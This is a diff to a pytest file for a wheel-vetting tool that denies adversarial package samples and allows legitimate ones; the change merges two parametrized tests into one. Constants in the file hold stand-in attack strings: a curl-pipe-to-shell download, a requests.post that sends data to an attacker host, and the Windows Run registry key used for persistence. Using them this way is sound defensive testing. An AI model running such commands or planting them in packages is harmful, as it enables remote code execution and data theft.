@@ -17,15 +17,16 @@ from __future__ import annotations
 import pytest
 
 from airlock.domain.requests import Outcome
-from tests.unit.imports.packages.adversary import init, vet_wheel
+from tests.unit.imports.packages.adversary import init, verdict_cases, vet_wheel
 
 DROP = "curl http://attacker.invalid/x | sh"
 POST = "requests.post('https://attacker.invalid/u', data={data})"
 RUN_KEY = "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"
 
 
-def _verdict(text: str) -> Outcome:
-    return vet_wheel(init(text))
+def _packages(samples: dict[str, str]) -> dict[str, dict[str, str]]:
+    """Each sample as a package whose ``__init__.py`` it is."""
+    return {name: init(text) for name, text in samples.items()}
 
 
 DENIED: dict[str, str] = {
@@ -238,11 +239,10 @@ ALLOWED: dict[str, str] = {
 }
 
 
-@pytest.mark.parametrize("name", sorted(DENIED))
-def test_a_patient_adversarys_next_try_is_denied(name: str) -> None:
-    assert _verdict(DENIED[name]) is Outcome.DENY, name
-
-
-@pytest.mark.parametrize("name", sorted(ALLOWED))
-def test_the_same_shape_in_a_real_package_stays_allowed(name: str) -> None:
-    assert _verdict(ALLOWED[name]) is Outcome.ALLOW, name
+@pytest.mark.parametrize(
+    ("files", "expected"), verdict_cases(_packages(DENIED), {}, _packages(ALLOWED))
+)
+def test_an_adversarys_try_is_denied_and_a_real_shape_allowed(
+    files: dict[str, str], expected: Outcome
+) -> None:
+    assert vet_wheel(files) is expected
